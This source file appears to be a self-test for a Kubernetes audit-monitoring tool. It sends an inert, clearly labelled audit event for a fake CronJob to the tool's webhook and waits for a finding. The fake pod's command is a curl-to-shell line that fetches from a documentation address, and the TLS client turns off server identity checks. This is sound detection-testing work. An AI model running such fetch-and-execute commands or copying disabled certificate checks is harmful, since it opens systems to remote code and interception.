import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { request as plainRequest } from 'node:http';
import { request as tlsRequest } from 'node:https';
import { setTimeout as sleep } from 'node:timers/promises';
import { parts } from '../parts.ts';
import { readAddress } from '../watch/listening.ts';
import type { SourceRequest } from '../watch/source-request.ts';
import type { Check } from './check.ts';
import { broken, messageOf, pass } from './check.ts';

const name = 'self-test';
const patience = 20_000;

/**
 * Sends an audit event about an object that does not exist, labelled as what it is, to a running watch, and waits until its finding is stored.
 * Nothing is done to any cluster.
 */
export async function selfTest(requests: readonly SourceRequest[], state: string): Promise<Check> {
  const target = requests.find(({ type }) => type === 'audit-webhook');
  if (target === undefined)
    return broken(
      name,
      'there is no source audit-webhook to send it to',
      'Name one, or test with a request to the cluster',
    );
  const id = `watchbill-self-test-${randomUUID()}`;
  try {
    const began = Date.now();
    const status = await send(target, bodyOf(id, new Date()));
    if (status !== 200)
      return broken(
        name,
        `the watch answers ${status}`,
        'Is it running, with this configuration? 401: another token; 503: it cannot store',
      );
    while (Date.now() - began < patience) {
      if (await isStored(state, id))
        return pass(
          name,
          `an inert event was found and stored after ${Date.now() - began} ms: finding on ${id}`,
        );
      await sleep(100);
    }
    return broken(
      name,
      'the event was taken, and no finding was stored',
      'Are the shipped rules on? `watchbill findings` shows what is stored',
    );
  } catch (error) {
    return broken(name, messageOf(error), 'Start the watch first, with the same configuration');
  }
}

async function isStored(state: string, id: string): Promise<boolean> {
  const open = await parts.storeReaders.sqlite();
  const reader = open(state);
  const found = [...reader.findings({ since: new Date(Date.now() - 60_000).toISOString() })].some(
    ({ item }) => item.workload.name === id,
  );
  reader.close();
  return found;
}

function send({ target, values }: SourceRequest, body: string): Promise<number> {
  const address = readAddress(target);
  if (address === undefined) return Promise.reject(new Error(`${target} is no HOST:PORT`));
  const certificate = values.get('cert-file');
  const token = values.get('token-file');
  const headers: Readonly<Record<string, string>> =
    token === undefined ? {} : { Authorization: `Bearer ${readFileSync(token, 'utf8').trim()}` };
  const options = {
    host: address.host === '0.0.0.0' ? '127.0.0.1' : address.host,
    port: address.port,
    path: values.get('path') ?? '/',
    method: 'POST',
    timeout: 10_000,
    headers,
  };
  return new Promise((resolve, reject) => {
    const answered = (response: IncomingMessage): void => {
      response.resume();
      resolve(response.statusCode ?? 0);
    };
    // It is this machine's own certificate, under whichever name clients know it.
    const sent =
      certificate === undefined
        ? plainRequest(options, answered)
        : tlsRequest(
            { ...options, ca: readFileSync(certificate), checkServerIdentity: () => undefined },
            answered,
          );
    sent.once('timeout', () => sent.destroy(new Error('no answer in 10 seconds')));
    sent.once('error', reject);
    sent.end(body);
  });
}

/** A pod template that asks an address of documentation (RFC 5737): it is not sent to any cluster, and nothing is there. */
function bodyOf(id: string, now: Date): string {
  const object = {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: id, namespace: 'watchbill-self-test', labels: { 'watchbill/self-test': 'true' } },
    spec: {
      schedule: '*/5 * * * *',
      suspend: true,
      jobTemplate: {
        spec: {
          template: {
            spec: {
              restartPolicy: 'Never',
              containers: [
                {
                  name: 'self-test',
                  image: 'registry.example/self-test:1',
                  command: ['sh', '-c', 'curl -s http://198.51.100.7/self-test | sh'],
                },
              ],
            },
          },
        },
      },
    },
  };
  const time = now.toISOString();
  const event = {
    level: 'RequestResponse',
    auditID: id,
    stage: 'ResponseComplete',
    requestURI: '/apis/batch/v1/namespaces/watchbill-self-test/cronjobs?fieldManager=watchbill-doctor',
    verb: 'create',
    user: { username: 'watchbill-self-test', groups: ['system:authenticated'] },
    sourceIPs: ['192.0.2.1'],
    userAgent: 'watchbill-doctor (self-test: nothing was done)',
    objectRef: {
      resource: 'cronjobs',
      namespace: 'watchbill-self-test',
      name: id,
      apiGroup: 'batch',
      apiVersion: 'v1',
    },
    responseStatus: { metadata: {}, code: 201 },
    requestObject: object,
    responseObject: object,
    requestReceivedTimestamp: time,
    stageTimestamp: time,
    annotations: { 'authorization.k8s.io/decision': 'allow', 'watchbill/self-test': 'true' },
  };
  return JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: [event] });
}
